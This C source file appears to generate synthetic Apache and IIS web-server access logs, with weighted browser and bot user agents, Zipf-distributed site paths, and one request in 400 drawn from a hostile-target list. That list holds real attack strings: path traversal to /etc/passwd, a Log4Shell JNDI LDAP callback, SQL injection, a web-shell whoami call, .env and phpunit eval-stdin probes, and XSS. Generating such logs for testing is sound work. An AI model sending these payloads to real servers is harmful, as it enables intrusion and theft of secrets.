/*
 * web.c - what web servers log: the combined format and IIS's W3C, a few hundred agents, paths by Zipf's law, and one
 * request in four hundred that tries something.
 *
 * Letters besides generator.h's: %R path and query %P the same apart by a blank %A agent %B agent with pluses %S size
 * %D date as Apache writes it %E date and time as IIS does %H hostile target %F referer.
 */
#include "generator.h"

#include <stdio.h>

#define HOSTILE_ONE_IN 400
#define AGENTS 420
#define AGENT_MAX 224
#define PATHS 20000

#define WEBKIT "AppleWebKit/537.36 (KHTML, like Gecko) Chrome/%v.0.0.0"
static const struct share agent_templates[] = {
    {90, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) " WEBKIT " Safari/537.36"},
    {40, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) " WEBKIT " Safari/537.36 Edg/%v.0.0.0"},
    {40, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) " WEBKIT " Safari/537.36"},
    {40, "Mozilla/5.0 (iPhone; CPU iPhone OS 17_%6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
         "Version/17.%6 Mobile/15E148 Safari/604.1"},
    {60, "Mozilla/5.0 (Linux; Android 1%6; SM-G9%d) " WEBKIT " Mobile Safari/537.36"},
    {30, "Mozilla/5.0 (Linux; Android 1%6; Pixel %6) " WEBKIT " Mobile Safari/537.36"},
    {30, "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:%v.0) Gecko/20100101 Firefox/%v.0"},
    {10, "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:%v.0) Gecko/20100101 Firefox/%v.0"},
    {15, "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.%6 "
         "Safari/605.1.15"},
    {8, "Mozilla/5.0 (Windows NT 10.0; Win64; x64) " WEBKIT " Safari/537.36 OPR/%v.0.0.0"},
    {6, "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"},
    {5, "Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm) "
        "Chrome/%v.0.0.0 Safari/537.36"},
    {4, "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"},
    {3, "Mozilla/5.0 (compatible; YandexBot/3.0; +http://yandex.com/bots)"},
    {3, "facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)"},
    {3, "okhttp/4.%6.0"},
    {3, "Prometheus/2.%d.0"},
    {3, "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)"},
};
static const struct share target_templates[] = {
    {30, "/assets/css/%w.%h.css"},
    {40, "/assets/js/%w-%w.%h.js"},
    {60, "/images/%w/%w-%d.webp"},
    {30, "/articles/2026/%w-%w-%w-%k"},
    {25, "/products/%w/%w-%k"},
    {20, "/api/v1/%w/%n?fields=id,name,%w&page=%d"},
    {20, "/api/v2/%w?limit=50&offset=%k"},
    {10, "/search?q=%w+%w&lang=en&sort=date"},
    {10, "/category/%w/page/%d"},
    {8, "/account/orders/%n"},
    {6, "/downloads/%w-%d.%d.pdf"},
    {5, "/fonts/%w-regular.woff2"},
    {4, "/cart/add?item=%n&count=1&return=/products/%w"},
    {3, "/feed/%w.xml"},
};
static const char *const first_targets[] = {"/",           "/favicon.ico", "/robots.txt",
                                            "/index.html", "/login",       "/api/v1/session"};
static const char *const hostile_targets[] = {
    "/cgi-bin/.%%2e/.%%2e/.%%2e/.%%2e/etc/passwd",
    "/?x=${jndi:ldap://%e:1389/%w}",
    "/index.php?id=1%%20UNION%%20SELECT%%20NULL--",
    "/autodiscover/autodiscover.json?@%w.com/mapi/nspi",
    "/shell.php?cmd=whoami",
    "/.env",
    "/wp-login.php",
    "/products?id=1'%%20OR%%20'1'='1",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/search?q=<script>alert(%k)</script>",
};

static char agents[AGENTS][AGENT_MAX];
static char targets[PATHS][128];

/* Agents and paths are those of one site: made once, from a generator of their own. */
static void make_tables(void)
{
    struct generator own = {.random = 7};
    sw_buf_init(&own.out, 1 << 16);
    for (size_t i = 0; i < AGENTS; i++) {
        sw_buf_clear(&own.out);
        fill(&own, &own.out, choose(&own, agent_templates, COUNT(agent_templates)));
        (void)snprintf(agents[i], sizeof agents[i], "%.*s", (int)own.out.len, own.out.data);
    }
    for (size_t i = 0; i < PATHS; i++) {
        sw_buf_clear(&own.out);
        fill(&own, &own.out,
             i < COUNT(first_targets) ? first_targets[i] : choose(&own, target_templates, COUNT(target_templates)));
        (void)snprintf(targets[i], sizeof targets[i], "%.*s", (int)own.out.len, own.out.data);
    }
    sw_buf_fini(&own.out);
}

const char *user_agent(struct generator *g)
{
    if (agents[0][0] == '\0')
        make_tables();
    return agents[zipf(g, AGENTS)];
}

static const char *target(struct generator *g)
{
    if (targets[0][0] == '\0')
        make_tables();
    return targets[zipf(g, PATHS)];
}

void put_target(struct generator *g, struct sw_buf *to)
{
    sw_buf_text(to, target(g));
}

static void put_plussed(struct sw_buf *to, const char *text)
{
    for (; *text != '\0'; text++)
        sw_buf_char(to, *text == ' ' ? '+' : *text);
}

/* cs-uri-stem and cs-uri-query, apart by a blank. */
static void put_split(struct sw_buf *to, struct sw_str whole)
{
    const char *mark = memchr(whole.ptr, '?', whole.len);
    size_t path = mark == NULL ? whole.len : (size_t)(mark - whole.ptr);
    sw_buf_add(to, whole.ptr, path);
    SW_BUF_LIT(to, " ");
    if (mark == NULL)
        SW_BUF_LIT(to, "-");
    else
        sw_buf_add(to, mark + 1, whole.len - path - 1);
}

static void put_apache_date(struct generator *g, struct sw_buf *to)
{
    static const char *const months[] = {"May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"};
    char text[32];
    (void)sw_time_format(g->time, text); /* 2026-05-01T00:00:00 */
    sw_buf_add(to, text + 8, 2);
    SW_BUF_LIT(to, "/");
    sw_buf_text(to, months[(unsigned)((text[5] - '0') * 10 + text[6] - '0' - 5) % COUNT(months)]);
    SW_BUF_LIT(to, "/");
    sw_buf_add(to, text, 4);
    SW_BUF_LIT(to, ":");
    sw_buf_add(to, text + 11, 8);
}

static void put_iis_date(struct generator *g, struct sw_buf *to)
{
    char text[32];
    (void)sw_time_format(g->time, text);
    text[10] = ' ';
    sw_buf_add(to, text, 19);
}

static void special(struct generator *g, struct sw_buf *to, char letter)
{
    switch (letter) {
    case 'R': sw_buf_text(to, target(g)); break;
    case 'P': put_split(to, sw_str(target(g))); break;
    case 'A': sw_buf_text(to, user_agent(g)); break;
    case 'B': put_plussed(to, user_agent(g)); break;
    case 'S': sw_buf_u64(to, 200 + zipf(g, 400000)); break;
    case 'D': put_apache_date(g, to); break;
    case 'E': put_iis_date(g, to); break;
    case 'H': fill(g, to, hostile_targets[below(g, COUNT(hostile_targets))]); break;
    case 'F':
        sw_buf_text(to, one_in(g, 4) ? "https://www.google.com/" : "https://www.example.org");
        sw_buf_text(to, one_in(g, 3) ? "/" : target(g));
        break;
    default: break;
    }
}

static const struct share access_kinds[] = {
    {62, "%e - - [%D +0000] \"GET %R HTTP/1.1\" 200 %S \"%F\" \"%A\"\n"},
    {10, "%e - - [%D +0000] \"GET %R HTTP/2.0\" 304 0 \"%F\" \"%A\"\n"},
    {10, "%e - - [%D +0000] \"POST %R HTTP/1.1\" 200 %S \"%F\" \"%A\"\n"},
    {5, "%e - - [%D +0000] \"GET %R HTTP/1.1\" 301 162 \"-\" \"%A\"\n"},
    {5, "%e - - [%D +0000] \"GET %R HTTP/1.1\" 404 153 \"-\" \"%A\"\n"},
    {5, "%i - %u [%D +0000] \"GET %R HTTP/1.1\" 200 %S \"%F\" \"%A\"\n"},
    {3, "%e - - [%D +0000] \"HEAD %R HTTP/1.1\" 200 0 \"-\" \"%A\"\n"},
};

void make_access(struct generator *g)
{
    g->special = special;
    fill(g, &g->out,
         one_in(g, HOSTILE_ONE_IN) ? "%e - - [%D +0000] \"GET %H HTTP/1.1\" 404 153 \"-\" \"%A\"\n"
                                   : choose(g, access_kinds, COUNT(access_kinds)));
}

static const struct share iis_kinds[] = {
    {70, "%E 10.0.4.20 GET %P 443 - %e %B https://www.example.org/%w 200 0 0 %k\r\n"},
    {12, "%E 10.0.4.20 POST %P 443 CORP\\%u %i %B https://www.example.org/%w 200 0 0 %k\r\n"},
    {8, "%E 10.0.4.20 GET %P 443 - %e %B - 304 0 0 %d\r\n"},
    {5, "%E 10.0.4.20 GET %P 443 - %e %B - 404 0 2 %d\r\n"},
    {5, "%E 10.0.4.20 GET %P 443 - %i %B - 401 2 5 %d\r\n"},
};

void make_iis(struct generator *g)
{
    g->special = special;
    if (!one_in(g, HOSTILE_ONE_IN)) {
        fill(g, &g->out, choose(g, iis_kinds, COUNT(iis_kinds)));
        return;
    }
    fill(g, &g->out, "%E 10.0.4.20 GET ");
    sw_buf_clear(&g->value);
    fill(g, &g->value, "%H");
    put_split(&g->out, sw_buf_str(&g->value));
    fill(g, &g->out, " 443 - %e %B - 404 0 2 %d\r\n");
}
